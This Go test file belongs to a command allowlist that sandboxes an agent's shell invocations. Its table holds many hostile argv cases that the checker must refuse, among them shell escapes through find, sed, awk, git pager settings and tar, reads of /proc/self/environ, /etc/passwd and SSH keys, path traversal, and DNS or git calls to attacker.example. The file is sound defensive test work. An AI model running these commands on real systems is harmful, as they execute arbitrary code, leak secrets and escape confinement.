package allowlist

import (
	"errors"
	"strings"
	"testing"

	"github.com/containerd/errdefs"
	"github.com/stretchr/testify/require"
)

// checkRow is one invocation and its expected decision: kind "" means
// permitted (and want, when set, is the normalized argv).
type checkRow struct {
	name  string
	git   bool // use the catalog with git (an opt-in profile)
	scope *Scope
	argv  []string
	kind  Kind
	index int
	rule  string // substring of the refusal's rule
	want  []string
}

func a(s ...string) []string { return s }

func runRows(t *testing.T, rows []checkRow) {
	t.Helper()
	withGit, def := catalogs(t)
	v := newFakeView()
	for _, r := range rows {
		name := r.name
		if name == "" {
			name = strings.Join(r.argv, " ")
		}
		t.Run(name, func(t *testing.T) {
			cmds := def
			if r.git {
				cmds = withGit
			}
			scope := dirScope
			if r.scope != nil {
				scope = *r.scope
			}
			d, err := Check(cmds, v, scope, r.argv)
			if r.kind == "" {
				require.NoError(t, err)
				if r.want != nil {
					require.Equal(t, r.want, d.Argv)
				}
				require.Equal(t, r.argv[0], d.Argv[0])
				return
			}
			require.Error(t, err)
			var ref *Refusal
			require.True(t, errors.As(err, &ref), "not a refusal: %v", err)
			require.True(t, errdefs.IsPermissionDenied(err))
			require.Equal(t, r.kind, ref.Kind, "refusal: %v", err)
			require.Equal(t, r.index, ref.Index, "refusal: %v", err)
			if r.rule != "" {
				require.Contains(t, ref.Rule, r.rule)
			}
			if ref.Index >= 0 && ref.Index < len(r.argv) && len(r.argv[ref.Index]) < 256 {
				require.Equal(t, r.argv[ref.Index], ref.Token)
			}
		})
	}
}

// TestCases runs every argv of the hostile cases (arg-allowlist and
// path-confinement classes) that Check can decide.
func TestCases(t *testing.T) {
	page := &pageScope
	runRows(t, []checkRow{
		// CMD-01 find/fd predicates that execute, delete or write.
		{argv: a("find", ".", "-name", "*.md", "-exec", "sh", "-c", "id", "{}", ";"), kind: KindArg, index: 4},
		{argv: a("find", ".", "-execdir", "id", ";"), kind: KindArg, index: 2},
		{argv: a("find", ".", "-ok", "id", ";"), kind: KindArg, index: 2},
		{argv: a("find", ".", "-delete"), kind: KindArg, index: 2},
		{argv: a("find", ".", "-fprint", "openwiki/x"), kind: KindArg, index: 2},
		{argv: a("find", ".", "-fprintf", "openwiki/x", "%p"), kind: KindArg, index: 2},
		{argv: a("find", ".", "-fls", "x"), kind: KindArg, index: 2},
		{argv: a("fd", "-x", "id"), kind: KindCmd, index: 0},
		{argv: a("fd", "--exec-batch", "id"), kind: KindCmd, index: 0},
		{name: "CMD-01 control", argv: a("find", ".", "-name", "*.md", "-print"), want: a("find", "-P", ".", "-name", "*.md", "-print")},

		// CMD-02 sed commands that run shell or write files.
		{argv: a("sed", "-n", "1e id", "README.md"), kind: KindArg, index: 2},
		{argv: a("sed", "s/.*/id/e", "README.md"), kind: KindArg, index: 1},
		{argv: a("sed", "-n", "w openwiki/../x", "README.md"), kind: KindArg, index: 2},
		{argv: a("sed", "-n", "1r /proc/self/environ", "README.md"), kind: KindArg, index: 2},
		{argv: a("sed", "-i", "s/a/b/", "README.md"), kind: KindArg, index: 1},
		{argv: a("sed", "--in-place=.bak", "s/a/b/", "x"), kind: KindArg, index: 1},
		{argv: a("sed", "-f", "openwiki/script.sed", "README.md"), kind: KindArg, index: 1},
		{name: "CMD-02 control", argv: a("sed", "-n", "1,40p", "README.md"), want: a("sed", "--sandbox", "--quiet", "--", "1,40p", "README.md")},

		// CMD-03 awk.
		{argv: a("awk", `BEGIN{x=1; system("id")}`), kind: KindCmd, index: 0},
		{argv: a("awk", `{print > "openwiki/../x"}`, "README.md"), kind: KindCmd, index: 0},
		{argv: a("awk", `BEGIN{print "x" | "sh"}`), kind: KindCmd, index: 0},
		{argv: a("awk", `BEGIN{"id" | getline; print}`), kind: KindCmd, index: 0},
		{argv: a("awk", "-v", "n=1", `BEGIN{system("id")}`), kind: KindCmd, index: 0},

		// CMD-04 ripgrep preprocessor and helper-binary options.
		{argv: a("rg", "--pre", "sh", "x", "."), kind: KindArg, index: 1},
		{argv: a("rg", "--pre=./openwiki/p.sh", "x"), kind: KindArg, index: 1},
		{argv: a("rg", "--hostname-bin=id", "x"), kind: KindArg, index: 1},
		{argv: a("rg", "-z", "x"), kind: KindArg, index: 1},
		{argv: a("rg", "--search-zip", "x"), kind: KindArg, index: 1},
		{argv: a("rg", "x", ".", "--pre", "sh"), kind: KindArg, index: 3},

		// CMD-06 git global options that run programs.
		{git: true, argv: a("git", "-c", "core.pager=sh -c id", "log"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "-ccore.pager=id", "status"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "--config-env=core.pager=EVIL", "log"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "-p", "status"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "--paginate", "show"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "-c", "core.fsmonitor=id", "status"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "-c", "diff.external=id", "diff"), kind: KindArg, index: 1},

		// CMD-07 git subcommand flags that write files or spawn helpers.
		{git: true, argv: a("git", "diff", "--output=openwiki/../README.md"), kind: KindArg, index: 2},
		{git: true, argv: a("git", "log", "--output", "x"), kind: KindArg, index: 2},
		{git: true, argv: a("git", "diff", "--ext-diff"), kind: KindArg, index: 2},
		{git: true, argv: a("git", "log", "-p", "--textconv"), kind: KindArg, index: 3},
		{git: true, argv: a("git", "ls-remote", "--upload-pack=id", "."), kind: KindArg, index: 1},
		{git: true, argv: a("git", "fetch", "--upload-pack", "id", "."), kind: KindArg, index: 1},
		{git: true, argv: a("git", "rebase", "--exec", "id"), kind: KindArg, index: 1},

		// CMD-09 option-looking operands, "--" and permutation.
		{argv: a("rg", "TODO", "src", "--pre", "sh"), kind: KindArg, index: 3},
		{git: true, argv: a("git", "show", "--output=/tmp/x"), kind: KindArg, index: 2},
		{git: true, argv: a("git", "log", "-1", "--", "--output=x")},
		{argv: a("grep", "x", "--", "-f"), want: a("grep", "--", "x", "./-f")},
		{argv: a("cat", "docs/--pre=sh", "docs/-rf"), want: a("cat", "--", "docs/--pre=sh", "docs/-rf")},
		{argv: a("rg", "-e", "x", "--", "-rf"), want: a("rg", "--no-config", "--regexp=x", "--", "./-rf")},

		// CMD-10 exec wrappers and shells.
		{argv: a("env", "sh", "-c", "id"), kind: KindCmd, index: 0},
		{argv: a("xargs", "sh", "-c", "id"), kind: KindCmd, index: 0},
		{argv: a("timeout", "5", "sh"), kind: KindCmd, index: 0},
		{argv: a("nice", "id"), kind: KindCmd, index: 0},
		{argv: a("setsid", "id"), kind: KindCmd, index: 0},
		{argv: a("stdbuf", "-o0", "id"), kind: KindCmd, index: 0},
		{argv: a("nohup", "id"), kind: KindCmd, index: 0},
		{argv: a("bash", "-c", "echo x > .claude/x"), kind: KindCmd, index: 0},
		{argv: a("busybox", "sh"), kind: KindCmd, index: 0},
		{argv: a("python3", "-c", "print(1)"), kind: KindCmd, index: 0},

		// CMD-11 options whose values are file paths.
		{argv: a("grep", "x", "--exclude-from=.env", "README.md"), kind: KindPath, index: 2, rule: ".openwikiignore:1"},
		{argv: a("grep", "-f", "secrets/key", "README.md"), kind: KindPath, index: 2, rule: ".openwikiignore:2"},
		{argv: a("file", "-m", "secrets/key.pem", "README.md"), kind: KindArg, index: 1},
		{argv: a("file", "--files-from", ".env"), kind: KindArg, index: 1},
		{argv: a("uniq", "README.md", "openwiki/../README.md"), kind: KindArg, index: 2},
		{argv: a("base64", "-oout.b64", "README.md"), kind: KindCmd, index: 0},
		{argv: a("jq", "--rawfile", "k", ".env", "-n", "$k"), kind: KindCmd, index: 0},

		// CMD-12 pagers and man.
		{argv: a("man", "-Psh -c id", "ls"), kind: KindCmd, index: 0},
		{argv: a("man", "--html=id", "ls"), kind: KindCmd, index: 0},
		{argv: a("man", "-Hid", "ls"), kind: KindCmd, index: 0},
		{argv: a("less", "README.md"), kind: KindCmd, index: 0},
		{argv: a("more", "README.md"), kind: KindCmd, index: 0},

		// CMD-13 tar, and globs stay literal.
		{argv: a("tar", "-cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=id", "README.md"), kind: KindCmd, index: 0},
		{argv: a("tar", "-xf", "a.tar", "--to-command=sh"), kind: KindCmd, index: 0},
		{argv: a("tar", "-I", "sh", "-xf", "a.tar"), kind: KindCmd, index: 0},
		{argv: a("tar", "--use-compress-program=id", "-cf", "x", "y"), kind: KindCmd, index: 0},
		{argv: a("cat", "openwiki/*"), want: a("cat", "--", "openwiki/*")},

		// CMD-14 path-qualified or repo-local argv[0].
		{argv: a("./cat", "x"), kind: KindCmd, index: 0},
		{argv: a("openwiki/rg", "x"), kind: KindCmd, index: 0},
		{argv: a("../cat", "x"), kind: KindCmd, index: 0},
		{argv: a("/repo/bin/git", "status"), kind: KindCmd, index: 0},
		{argv: a("/usr/bin/../../repo/cat", "x"), kind: KindCmd, index: 0},
		{argv: a("CAT", "x"), kind: KindCmd, index: 0},

		// CMD-15 shell metacharacters stay literal. A URL-looking read-path
		// operand is a relative path that the tool is given canonically
		// ("http:/x"); an option's value, a write path and the host-side
		// file tools still refuse URLs.
		{argv: a("grep", "install", "README.md;", "env", "|", "curl", "http://x"), want: a("grep", "--", "install", "README.md;", "env", "|", "curl", "http:/x")},
		{argv: a("grep", "install", "README.md;", "env", "|", "curl"), want: a("grep", "--", "install", "README.md;", "env", "|", "curl")},
		{argv: a("cat", "file:///proc/self/environ"), want: a("cat", "--", "file:/proc/self/environ")},
		{argv: a("find", "HTTPS://x/", "-print"), want: a("find", "-P", "HTTPS:/x", "-print")},
		{argv: a("cat", "http://x/../../.git/config"), kind: KindPath, index: 1, rule: ".git"},
		{argv: a("cat", "http://x/../../../etc/passwd"), kind: KindPath, index: 1, rule: "leaves the repository"},
		{argv: a("grep", "-f", "http://x", "README.md"), kind: KindPath, index: 2, rule: "URL"},
		{argv: a("grep", "x", "--exclude-from=file:///etc/passwd", "README.md"), kind: KindPath, index: 2, rule: "URL"},
		{argv: a("touch", "http://x"), kind: KindPath, index: 1, rule: "URL"},
		{argv: a("cp", "http://x", "openwiki/x"), want: a("cp", "--", "http:/x", "openwiki/x")},
		{argv: a("echo", `"; id; echo "`), want: a("echo", `"; id; echo "`)},
		{argv: a("echo", "a", "$(id)", "|", "b"), want: a("echo", "a", "$(id)", "|", "b")},
		{argv: a("echo", "-n", "x"), kind: KindArg, index: 1},
		{argv: a("echo", "x", "-e"), kind: KindArg, index: 2},
		{argv: a("echo", "--", "x"), kind: KindArg, index: 1},
		{argv: a("echo", "--help"), kind: KindArg, index: 1},
		{argv: a("grep", "$(id)", "README.md"), want: a("grep", "--", "$(id)", "README.md")},
		{argv: a("grep", "`id`", "README.md")},
		{argv: a("rg", "x", ">", "openwiki/out")},

		// CMD-18 environment poisoning.
		{git: true, argv: a("PAGER=id", "git", "log"), kind: KindCmd, index: 0},
		{argv: a("export", "GIT_PAGER=id"), kind: KindCmd, index: 0},

		// CMD-20 network tools; git is not in the default catalog.
		{argv: a("ping", "-c1", "c2VjcmV0.attacker.example"), kind: KindCmd, index: 0},
		{argv: a("nslookup", "x.attacker.example"), kind: KindCmd, index: 0},
		{argv: a("curl", "file:///proc/self/environ"), kind: KindCmd, index: 0},
		{argv: a("git", "ls-remote", "https://attacker.example/r"), kind: KindCmd, index: 0},
		{git: true, argv: a("git", "ls-remote", "https://attacker.example/r"), kind: KindArg, index: 1},

		// PATH-01 sibling prefixes and page mode.
		{argv: a("touch", "openwiki-old/x.md"), kind: KindPath, index: 1, rule: "outside the write scope openwiki/"},
		{argv: a("touch", "openwiki_evil/x.md"), kind: KindPath, index: 1},
		{argv: a("touch", "openwiki/../openwikiX/x.md"), kind: KindPath, index: 1},
		{scope: page, argv: a("touch", "openwiki/pages/a.md.bak"), kind: KindPath, index: 1, rule: "assigned page"},
		{scope: page, argv: a("touch", "openwiki/pages/a.mdx"), kind: KindPath, index: 1},
		{scope: page, argv: a("touch", "openwiki/pages/a.md/../b.md"), kind: KindPath, index: 1},
		{scope: page, argv: a("touch", "openwiki/pages/a.md"), want: a("touch", "--", "openwiki/pages/a.md")},
		{scope: page, argv: a("touch", "openwiki/inner/a.md"), kind: KindPath, index: 1},
		{scope: page, argv: a("cp", "README.md", "openwiki/pages/a.md")},
		{scope: page, argv: a("mkdir", "openwiki/pages"), kind: KindPath, index: 1},

		// PATH-02 lexical traversal and encodings.
		{argv: a("cat", "../../etc/passwd"), kind: KindPath, index: 1},
		{argv: a("cat", "openwiki/../.git/config"), kind: KindPath, index: 1, rule: ".git"},
		{argv: a("touch", "openwiki/../x"), kind: KindPath, index: 1},
		{argv: a("touch", "openwiki/./../x"), kind: KindPath, index: 1},
		{argv: a("touch", "openwiki//..//x"), kind: KindPath, index: 1},
		{argv: a("touch", "openwiki/%2e%2e/x"), want: a("touch", "--", "openwiki/%2e%2e/x")},
		{argv: a("touch", `openwiki\..\x`), kind: KindPath, index: 1, rule: "backslash"},
		{argv: a("touch", "openwiki/.. /x"), want: a("touch", "--", "openwiki/.. /x")},
		{argv: a("touch", "/repo/openwiki/../x"), kind: KindPath, index: 1, rule: "absolute"},
		{argv: a("touch", "~/x"), kind: KindPath, index: 1},
		{argv: a("touch", "openwiki/a/../../x"), kind: KindPath, index: 1},
		{argv: a("cp", "README.md", "openwiki/../x"), kind: KindPath, index: 2},
		{argv: a("cp", "README.md", "openwiki//a/./b/"), want: a("cp", "--", "README.md", "openwiki/a/b")},

		// PATH-04 committed symlinks pointing out of the view.
		{argv: a("cat", "docs/passwd"), kind: KindPath, index: 1},
		{argv: a("cat", "docs/up/home/user/.ssh/id_rsa"), kind: KindPath, index: 1},
		{argv: a("cat", "docs/gitcfg"), kind: KindPath, index: 1},
		{argv: a("cat", "docs/claim"), kind: KindPath, index: 1, rule: "owned by corral"},
		{argv: a("cat", "docs/readme"), want: a("cat", "--", "docs/readme")},

		// PATH-05 writing through a symlink inside the write area.
		{argv: a("touch", "openwiki/assets/new.js"), kind: KindPath, index: 1, rule: "resolves to src/new.js"},
		{argv: a("touch", "openwiki/pages/x.md"), kind: KindPath, index: 1},
		{argv: a("cp", "a", "openwiki/assets/"), kind: KindPath, index: 2},

		// PATH-07 .claims and .git.
		{argv: a("mkdir", "openwiki/.claims"), kind: KindPath, index: 1, rule: "owned by corral"},
		{argv: a("mkdir", "-p", "openwiki/.CLAIMS/x"), kind: KindPath, index: 2, rule: "owned by corral"},
		{argv: a("touch", "openwiki/.claims/a.lock"), kind: KindPath, index: 1},
		{argv: a("mkdir", "openwiki/.Git"), kind: KindPath, index: 1},
		{argv: a("cat", ".git/config"), kind: KindPath, index: 1},
		{argv: a("cat", "vendor/lib/.git/config"), kind: KindPath, index: 1},

		// PATH-11 repository redirection in git arguments.
		{git: true, argv: a("git", "add", "../../.ssh/id_rsa"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "-C", "..", "status"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "--git-dir=/host/.git", "log"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "--work-tree=/", "status"), kind: KindArg, index: 1},
		{git: true, argv: a("git", "diff", "--no-index", "openwiki/a", "/etc/shadow"), kind: KindArg, index: 2},

		// IGN-06 / IGN-08 direct references to hidden paths.
		{argv: a("ls", "-a")},
		{argv: a("find", ".")},
		{argv: a("rg", "--files")},
		{argv: a("rg", "-uuu", "SECRET")},
		{argv: a("cp", "secrets/k", "openwiki/k"), kind: KindPath, index: 1, rule: ".openwikiignore:2 hides secrets/"},
		{argv: a("stat", "secrets"), kind: KindPath, index: 1},
		{argv: a("du", "-a"), kind: KindCmd, index: 0},
		{argv: a("cat", "docs/k"), kind: KindPath, index: 1, rule: ".openwikiignore:3"},
		{argv: a("ls", "docs/p/"), kind: KindPath, index: 1},

		// ENV-01.
		{argv: a("env"), kind: KindCmd, index: 0},
		{argv: a("cat", "/proc/self/environ"), kind: KindPath, index: 1},
		{argv: a("cat", "/proc/1/environ"), kind: KindPath, index: 1},
		{argv: a("jq", "-n", "env"), kind: KindCmd, index: 0},

		// CFG-01 writes to config outside scope.
		{argv: a("touch", ".vscode/settings.json"), kind: KindPath, index: 1},
		{argv: a("touch", ".cUrSoR/mcp.json"), kind: KindPath, index: 1},
		{argv: a("mkdir", "-p", ".git/hooks"), kind: KindPath, index: 2},
		{argv: a("cp", "README.md", ".openwikiignore"), kind: KindPath, index: 2},
		{argv: a("touch", "AGENTS.md"), kind: KindPath, index: 1},
	})
}

// TestCaseLimits is CMD-17: counts and sizes refuse the whole argv.
func TestCaseLimits(t *testing.T) {
	_, def := catalogs(t)
	v := newFakeView()
	many := append(a("grep", "x"), make([]string, 100000)...)
	for i := 2; i < len(many); i++ {
		many[i] = "README.md"
	}
	pats := a("grep")
	for i := 0; i < 10000; i++ {
		pats = append(pats, "-e", "p")
	}
	pats = append(pats, "README.md")
	big := a("grep", strings.Repeat("x", 2<<20), "README.md")
	total := a("grep", "x")
	for i := 0; i < 8; i++ {
		total = append(total, strings.Repeat("y", 60<<10))
	}
	for _, tc := range []struct {
		argv  []string
		index int
		rule  string
	}{
		{many, MaxArgs, "too many arguments"},
		{pats, MaxArgs, "too many arguments"},
		{big, 1, "argument too large"},
		{total, 6, "too large"},
	} {
		_, err := Check(def, v, dirScope, tc.argv)
		var ref *Refusal
		require.True(t, errors.As(err, &ref), "%v", err)
		require.Equal(t, KindArg, ref.Kind)
		require.Equal(t, tc.index, ref.Index)
		require.Contains(t, ref.Rule, tc.rule)
		require.LessOrEqual(t, len(ref.Token), 260)
	}
}
